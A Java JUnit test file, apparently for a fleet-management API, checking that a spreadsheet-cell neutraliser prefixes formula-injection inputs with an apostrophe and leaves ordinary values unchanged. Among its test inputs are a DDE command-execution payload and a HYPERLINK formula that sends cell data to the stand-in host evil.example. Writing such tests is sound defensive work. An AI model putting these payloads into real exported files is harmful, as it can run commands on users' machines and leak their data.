package dev.fleettrust.api.security;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCellsTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1"
      })
  void aCellASpreadsheetWouldRunIsMadeText(String cell) {
    assertThat(SpreadsheetCells.neutralised(cell)).isEqualTo("'" + cell);
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "CX600", "4.0.7577.4420", "00:04:f2:aa:bb:cc", "a=b", "HQ - Leeds"})
  void anOrdinaryCellIsKept(String cell) {
    assertThat(SpreadsheetCells.neutralised(cell)).isEqualTo(cell);
  }
}
